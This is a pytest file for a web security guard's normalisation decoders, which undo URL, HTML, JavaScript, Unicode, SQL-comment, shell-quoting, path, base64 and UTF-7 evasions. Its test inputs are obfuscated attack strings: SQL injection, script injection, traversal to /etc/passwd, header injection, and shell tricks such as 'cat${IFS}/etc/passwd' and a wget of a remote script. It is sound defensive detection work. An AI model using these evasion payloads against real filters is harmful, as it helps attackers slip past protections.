"""Unit tests of the evasion-normalisation decoders, the views built from them, and their cost."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from guard.engine import normalize as normalize_module
from guard.engine.normalize import (
    MAX_EXPANSION,
    decode_base64,
    decode_utf7,
    fold_whitespace,
    html_decode,
    join_sql_comments,
    js_unescape,
    named_views,
    normalize,
    normalize_path,
    shell_unquote,
    strip_sql_comments,
    trace,
    unicode_fold,
    url_decode,
    views,
)

DECODERS: list[Callable[[str], str]] = [
    url_decode,
    html_decode,
    js_unescape,
    unicode_fold,
    fold_whitespace,
    strip_sql_comments,
    shell_unquote,
    normalize_path,
    normalize,
]


def test_public_names() -> None:
    assert sorted(normalize_module.__all__) == sorted(
        [
            "MAX_EXPANSION",
            "MAX_ROUNDS",
            "decode_base64",
            "decode_utf7",
            "fold_whitespace",
            "html_decode",
            "join_sql_comments",
            "js_unescape",
            "named_views",
            "normalize",
            "normalize_path",
            "shell_unquote",
            "triggers",
            "strip_sql_comments",
            "trace",
            "unicode_fold",
            "utf7_view",
            "url_decode",
            "views",
        ]
    )


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain", "plain"),
        ("%27", "'"),
        ("%2527", "'"),
        ("%252527", "'"),
        ("%252e%252e%252f", "../"),
        ("%25%32%37", "'"),
        ("%%32%37", "'"),
        ("%25%30%61Set-Cookie", "\nSet-Cookie"),
        ("%u003cscript%u003e", "<script>"),
        ("%U003C", "<"),
        ("%u0025u0027", "'"),
        ("%c0%ae%c0%ae%c0%af", "../"),
        ("%e0%80%ae", "."),
        ("%f0%80%80%af", "/"),
        ("%c1%9c", "\\"),
        ("%c0%2e%c0%2e%c0%5c", "..\\"),
        ("%%c0%6e%c0%6e%c1%1c", "%..\\"),
        ("%c0%5e", "^"),
        ("%f8%80%80%80%ae", "."),
        ("%fc%80%80%80%80%ae%fc%80%80%80%80%ae/", "../"),
        ("%c0%fe", "%c0%fe"),
        ("%c0%25", "%c0%"),
        ("%25c0%25ae", "."),
        ("%E5%98%8A", "嘊"),
        ("%E5%2598%8A", "嘊"),
        ("%e2%80%a8", "\u2028"),
        ("a+b", "a b"),
        ("%2B", " "),
        ("%0d%0a", "\r\n"),
        ("%00", "\x00"),
        ("100%", "100%"),
        ("%zz%2", "%zz%2"),
        ("%u12", "%u12"),
        ("%E5", "%E5"),
        ("%E5%98x", "%E5%98x"),
        ("%98", "%98"),
        ("%ff%fe", "%ff%fe"),
        ("%f7%bf%bf%bf", "%f7%bf%bf%bf"),
        ("%c0%qf", "%c0%qf"),
        ("\ud800%41", "\ud800A"),
    ],
)
def test_url_decode(raw: str, expected: str) -> None:
    assert url_decode(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain", "plain"),
        ("&lt;", "<"),
        ("&lt", "<"),
        ("&LT", "<"),
        ("&ltscript&gt", "<script>"),
        ("&#60;", "<"),
        ("&#60", "<"),
        ("&#x3c;", "<"),
        ("&#X3C", "<"),
        ("&#x3C;script&#x3E;", "<script>"),
        ("&#0000060", "<"),
        ("&#x00000003c;", "<"),
        ("&amp;lt;", "<"),
        ("&amp;amp;#60;", "<"),
        ("&#38;#x3c;", "<"),
        ("&apos;", "'"),
        ("&apos&#59;", "'"),
        ("&l&#116;;", "<"),
        ("&notit;", "¬it;"),
        ("&NotEqualTilde;", "≂̸"),
        ("&fjlig;", "fj"),
        ("&#0;", "\ufffd"),
        ("&#x110000;", "\ufffd"),
        ("&#" + "9" * 5000 + ";", "\ufffd"),
        ("&#" + "0" * 5000 + "60;", "<"),
        ("&#1;", ""),
        ("&#x&#1;3c", "<"),
        ("Ben & Jerry's", "Ben & Jerry's"),
        ("AT&T", "AT&T"),
        ("&;", "&;"),
        ("&#;", "&#;"),
        ("&#x;", "&#x;"),
        ("&nosuchentity;", "&nosuchentity;"),
        ("&" + "a" * 40, "&" + "a" * 40),
    ],
)
def test_html_decode(raw: str, expected: str) -> None:
    assert html_decode(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain", "plain"),
        ("\\u003cimg", "<img"),
        ("\\u003Cimg", "<img"),
        ("\\u{3c}", "<"),
        ("\\u{00003c}", "<"),
        ("\\u{1F600}", "\U0001f600"),
        ("\\x27UNION", "'UNION"),
        ("\\x5f\\x5fglobals\\x5f\\x5f", "__globals__"),
        ("\\074script\\076", "<script>"),
        ("\\/etc\\/passwd", "/etc/passwd"),
        ("\\x5cx41", "A"),
        ("\\u005cu0041", "A"),
        ("\\\\x41", "\\A"),
        ("C:\\Users\\Maria\\Desktop", "C:\\Users\\Maria\\Desktop"),
        ("\\d{3}-\\d{4}", "\\d{3}-\\d{4}"),
        ("\\1 \\12 \\400", "\\1 \\12 \\400"),
        ("\\n\\t", "\\n\\t"),
        ("\\u{110000}", "\\u{110000}"),
        ("\\u12", "\\u12"),
        ("\\x4", "\\x4"),
    ],
)
def test_js_unescape(raw: str, expected: str) -> None:
    assert js_unescape(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain", "plain"),
        ("ＳＥＬＥＣＴ", "SELECT"),
        ("＜script＞", "<script>"),
        ("\uff1cimg", "<img"),
        ("﹤svg", "<svg"),
        ("‹svg›", "<svg>"),
        ("〈svg〉", "<svg>"),
        ("ʼ OR ʼ1ʼ=ʼ1", "' OR '1'='1"),
        ("＇ or 1=1", "' or 1=1"),
        ("“x”", '"x"'),
        ("ѕеlесt", "select"),
        ("ΑΝD", "AND"),
        ("sel\u200bect", "select"),
        ("un\u200cion\u200d \ufeffsel\u00adect", "union select"),
        ("shell\u202egpj.php", "shellgpj.php"),
        ("\uff05\uff12\uff17", "%27"),
        ("..\u2215..\u2215", "../../"),
        ("e\u0301", "é"),
        ("о\u0301", "ó"),
        ("\u2024\u2024/", "../"),
        ("\ud83d\ude00", "\U0001f600"),
        ("\ud800x", "\ud800x"),
        ("ﬁle", "file"),
        ("Ⅸ", "IX"),
    ],
)
def test_unicode_fold(raw: str, expected: str) -> None:
    assert unicode_fold(raw) == expected


def test_unicode_fold_caps_expansion() -> None:
    expanded = unicode_fold("\ufdfa")
    assert len(expanded) == MAX_EXPANSION
    assert unicode_fold(expanded) == expanded


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain text", "plain text"),
        ("a\x00b", "ab"),
        ("x.php\x00.gif", "x.php.gif"),
        ("a\tb\x0bc\x0cd", "a b c d"),
        ("a\xa0\u2003\u3000\u180eb", "a b"),
        ("a   b", "a b"),
        ("a \t b", "a b"),
        ("a\r\nSet-Cookie: x", "a\r\nSet-Cookie: x"),
        ("a\r\n\r\nb", "a\r\n\r\nb"),
        ("a\u2028b\x85c", "a\nb\nc"),
        ("  lead and trail  ", " lead and trail "),
    ],
)
def test_fold_whitespace(raw: str, expected: str) -> None:
    assert fold_whitespace(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("select 1", "select 1"),
        ("SEL/**/ECT", "SEL ECT"),
        ("UNION/**/SELECT/**/1", "UNION SELECT 1"),
        ("1/*comment*/OR/*x*/1=1", "1 OR 1=1"),
        ("/*!50000UNION*/", "UNION"),
        ("/*!50000select*/", "select"),
        ("1/*!UNION*//*!SELECT*/2", "1 UNION SELECT 2"),
        ("/*!12345UNION /*x*/ SELECT*/", "UNION SELECT"),
        ("/*M!100201select*/", "select"),
        ("/*!1111'*/", "1111'"),
        ("admin'--", "admin'"),
        ("admin'-- -\nnext", "admin'\nnext"),
        ("1' or 1=1#comment", "1' or 1=1"),
        ("1 union select 1,2/*", "1 union select 1,2"),
        ("a */ b", "a */ b"),
        ("2*3/4", "2*3/4"),
    ],
)
def test_strip_sql_comments(raw: str, expected: str) -> None:
    assert strip_sql_comments(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("select 1", "select 1"),
        ("UN/**/ION SEL/*x*/ECT 1", "UNION SELECT 1"),
        ("1/*!50000UNION*/SELECT 2", "1 UNION SELECT 2"),
        ("1 un/*", "1 un"),
        ("admin'-- x", "admin'-- x"),
    ],
)
def test_join_sql_comments(raw: str, expected: str) -> None:
    assert join_sql_comments(raw) == expected


def test_a_keyword_split_by_a_comment_is_caught() -> None:
    from guard.handlers.suspatterns_handler import sus_patterns_handler

    result = sus_patterns_handler.engine.detect("1 UN/**/ION SEL/**/ECT password FROM users")
    assert result["is_threat"] and result["attack_class"] == "sqli"
    assert any(t.get("pattern_id") == "sqli-union-select" for t in result["threats"])


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("ls -la", "ls -la"),
        ("w'h'o'am'i", "whoami"),
        ('w"h"oami', "whoami"),
        ("c\\at /e?c/passwd", "cat /e?c/passwd"),
        ("cat /etc/pa*wd", "cat /etc/pa*wd"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
        ("who$@ami", "whoami"),
        ("who$*ami", "whoami"),
        ("$I$@FS", " "),
        ("{cat,/etc/passwd}", "cat /etc/passwd"),
        (";{wget,http://x/s.sh}", ";wget http://x/s.sh"),
        ("{{7*7}}", "{{7*7}}"),
        ("echo $HOME", "echo $HOME"),
        ("a  'b'", "a b"),
        ("$'\\x63\\x61\\x74' /etc/passwd", "cat /etc/passwd"),
        ("$'\\167\\150\\157\\141\\155\\151'", "whoami"),
        ("$'\\u0069d'", "id"),
        ("echo $'a\\tb'", "echo a\tb"),
        ("$'\\x27'", ""),
        ("${PATH:0:1}bin${HOME:0:1}sh", "/bin/sh"),
        ("${PATH::1}etc", "/etc"),
        ("${PA''TH:0:1}", "/"),
        ("${USER:0:1}", "${USER:0:1}"),
        ("cat${IFS%??}/etc/passwd", "cat /etc/passwd"),
        ("The `kill' builtin has a `-L' option in $SHELL",
         "The kill builtin has a -L option in $SHELL"),
        # A lone quote opens nothing the shell can close in its word: left as written.
        ("The `kill' builtin has a `-L' option", "The `kill' builtin has a `-L' option"),
        ("The kill builtin's -L option", "The kill builtin's -L option"),
        ("`wh'oam'i`", "`whoami`"),
        ("`id'`", "`id'`"),
        ("`id''`", "`id`"),
        ("cat${IFS:0:1}x", "cat x"),
    ],
)
def test_shell_unquote(raw: str, expected: str) -> None:
    assert shell_unquote(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("photo.jpg", "photo.jpg"),
        ("../../etc/passwd", "../../etc/passwd"),
        ("....//....//etc/passwd", "../../etc/passwd"),
        ("..;/..;/etc/passwd", "../../etc/passwd"),
        ("/..;jsessionid=1/..;/x", "/../../x"),
        ("..\\..\\windows\\win.ini", "../../windows/win.ini"),
        ("....\\\\....\\\\boot.ini", "../../boot.ini"),
        (".../.../x", "../../x"),
        ("a/./b/././c", "a/b/c"),
        ("a//b///c", "a/b/c"),
        ("file=....//etc/passwd", "file=../etc/passwd"),
        ("php://filter//x", "php://filter/x"),
        ("report...final/x", "report...final/x"),
        ("C:\\Users\\Maria\\photo.jpg", "C:/Users/Maria/photo.jpg"),
    ],
)
def test_normalize_path(raw: str, expected: str) -> None:
    assert normalize_path(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("plain words", "plain words"),
        ("%27%20OR%201=1--", "' OR 1=1--"),
        ("%26lt;script%26gt;", "<script>"),
        ("&#37;27", "'"),
        ("%26%2337%3B27", "'"),
        ("\uff05\uff12\uff17", "'"),
        ("%5cx3c", "<"),
        ("&#92;u003c", "<"),
        ("%2\x005", "%"),
        ("%EF%BC%9Cscript", "<script"),
        ("\\u0026lt;", "<"),
        ("a%09%09b", "a b"),
        ("%0d%0aSet-Cookie:%20x", "\r\nSet-Cookie: x"),
        ("ＳＥＬＥＣＴ\u3000*", "SELECT *"),
    ],
)
def test_normalize(raw: str, expected: str) -> None:
    assert normalize(raw) == expected


def layer(text: str, times: int) -> str:
    """Hide ``text`` under ``times`` layers that each need a round of their own."""
    for _ in range(times):
        # HTML makes the "%" of a URL escape, which only the next round's URL decoder sees.
        text = text.replace("%", "&#37;").replace("&", "%26")
    return text


def test_normalize_reaches_a_fixed_point_within_max_rounds() -> None:
    layered = layer("%27", normalize_module.MAX_ROUNDS - 1)
    assert normalize(layered) == "'"


def test_normalize_stops_after_max_rounds() -> None:
    once = normalize(layer("%27", normalize_module.MAX_ROUNDS))
    assert once != "'"
    assert normalize(once) != once


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("The quick brown fox.", []),
        # A lone apostrophe is prose; a second quote in the word is what a shell undoes.
        ("don't stop", []),
        ("don't 'stop'", ["dont stop"]),
        ("%27%20OR%201=1--", ["' OR 1=1--", "' OR 1=1", " OR 1=1--"]),
        ("SEL/**/ECT", ["SEL ECT", "SELECT"]),
        ("/*!50000UNION*/", ["UNION"]),
        ("w'h'o'am'i", ["whoami"]),
        ("cat${IFS}/etc/passwd", ["cat /etc/passwd"]),
        ("....//....//etc/passwd", ["../../etc/passwd"]),
        ("%2e%2e%5c%2e%2e%5cwin.ini", ["..\\..\\win.ini", "....win.ini", "../../win.ini"]),
        ("&lt;img src=x&gt;", ["<img src=x>"]),
    ],
)
def test_views(raw: str, expected: list[str]) -> None:
    assert views(raw) == expected


def test_views_leave_out_text_and_repeats() -> None:
    found = views("%41")
    assert found == ["A"]
    assert views("A") == []


def test_trace_names_each_step_and_ends_with_views() -> None:
    steps = trace("%2526lt;script&gt;")
    names = [name for name, _ in steps]
    assert names == [
        "url", "html", "js", "unicode", "whitespace", "sql", "sql", "shell", "path", "base64",
        "utf7",
    ]
    assert steps[0][1] == "&lt;script&gt;"
    assert steps[1][1] == "<script>"
    assert dict(steps)["path"] == "<script>"


def test_trace_shows_later_rounds_that_change_something() -> None:
    names = [name for name, _ in trace("&#37;27")]
    assert names[:10] == [
        "url",
        "html",
        "js",
        "unicode",
        "whitespace",
        "url#2",
        "html#2",
        "js#2",
        "unicode#2",
        "whitespace#2",
    ]
    assert dict(trace("&#37;27"))["url#2"] == "'"


def test_trace_agrees_with_normalize() -> None:
    text = "%EF%BC%9Cscript%EF%BC%9E&#37;27"
    steps = trace(text)
    last_canonical = [name for name, _ in steps].index("sql") - 1
    assert steps[last_canonical][1] == normalize(text)


WEIRD = [
    "",
    "\x00",
    "\ud800",
    "\udfff\ud800",
    "%\ud800",
    "&\ud800;",
    "\\u{\ud800}",
    "\x00" * 10,
    "%" * 7,
    "&" * 7,
    "\\" * 7,
    "&#x" + "f" * 50 + ";",
    "%u" + "\ud800" * 4,
]


@pytest.mark.parametrize("text", WEIRD)
@pytest.mark.parametrize("decode", DECODERS, ids=lambda decode: decode.__name__)
def test_never_raises_and_idempotent(decode: Callable[[str], str], text: str) -> None:
    once = decode(text)
    assert decode(once) == once
    assert len(once) <= MAX_EXPANSION * len(text)


@pytest.mark.parametrize("text", WEIRD)
def test_views_of_weird_text(text: str) -> None:
    for view in views(text):
        assert view != text
        assert len(view) <= MAX_EXPANSION * len(text)
    trace(text)


LINEAR = {
    "nested percent": "%25" * 100_000,
    "nested amp": "&amp;" * 100_000,
    "hex escapes": "\\x41" * 100_000,
    "quotes": "'" * 200_000,
    "dollar braces": "${a(" * 2_000,
    "braces": "{{" * 5_000,
    "one megabyte": "a" * 1_000_000,
    "percent then a megabyte": "%" + "a" * 1_000_000,
    "amp prefix run": "&" + "amp" * 100_000,
    "overlong leads": "%c0" * 100_000,
    "percent u": "%u" * 100_000,
    "unterminated comments": "/*" * 100_000,
    "long decimal reference": "&#" + "9" * 100_000,
    "braced js": "\\u{" * 100_000,
    "path parameters": "..;" * 100_000,
    "dollars": "$" * 200_000,
    "reference cascade": "&semi" * 50_000 + "&#59;",
    "split utf8": "%e5%98" * 50_000,
    "backslashes": "\\" * 200_000,
    "reopened references": "&ap&#111;s;" * 20_000,
    "fullwidth percent": "\uff05\uff12\uff15" * 50_000,
    "expanding ligature": "\ufdfa" * 50_000,
    "ifs splits": "$I$@FS" * 50_000,
    "brace lists": "{a,b}" * 100_000,
    "dot runs": "....//" * 100_000,
}


@pytest.mark.parametrize("text", list(LINEAR.values()), ids=list(LINEAR))
def test_linear_time(text: str) -> None:
    started = time.perf_counter()
    found = views(text)
    for decode in DECODERS:
        decode(text)
    assert time.perf_counter() - started < 5.0
    assert all(len(view) <= MAX_EXPANSION * len(text) for view in found)


def test_named_views_match_views() -> None:
    for text in ["plain words", "%27%20OR%201%3D1--", "..\\..\\etc/passwd", "w'h'o'am'i"]:
        canonical, named = normalize_module.named_views(text)
        assert [view for _, view in named] == normalize_module.views(text)
        assert canonical == (normalize_module.normalize(text) if named else text)
        assert [n for n, _ in named] == sorted(
            (n for n, _ in named), key=["canonical", "sql", "shell", "path"].index
        )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<script>alert(1)</script>"),
        ("q=JyBPUiAnMSc9JzEnIC0tIHg", "q=' OR '1'='1' -- x"),
        ("Oy9iaW4vc2ggLWMgJ2lkJw", ";/bin/sh -c 'id'"),
        ("UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09", "<script>alert(1)</script>"),
        ("d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"),
        ("short aGk=", "short aGk="),
        ("3q2+7wAAAAAAAAAAAAAAAAAAAAAA", "3q2+7wAAAAAAAAAAAAAAAAAAAAAA"),
    ],
    ids=["script", "urlsafe-sqli", "shell", "double", "hex-hash", "too-short", "binary"],
)
def test_decode_base64(text: str, expected: str) -> None:
    assert decode_base64(text) == expected


def test_decode_utf7_opens_printable_runs_only() -> None:
    assert decode_utf7("+ADw-script+AD4-") == "<script>"
    assert decode_utf7("+ADwAIQ-DOCTYPE") == "<!DOCTYPE"
    for plain in ("call +33 1 42 68", "C++/CLI", "a+b=c", "+AAAAAAA-"):
        assert decode_utf7(plain) == plain


def test_the_utf7_view_comes_from_the_raw_text() -> None:
    # URL decoding turns '+' into a space, so the canonical view has lost the runs.
    assert dict(named_views("+ADw-svg onload+AD0-alert(1)+AD4-")[1])["utf7"] == (
        "<svg onload=alert(1)>")
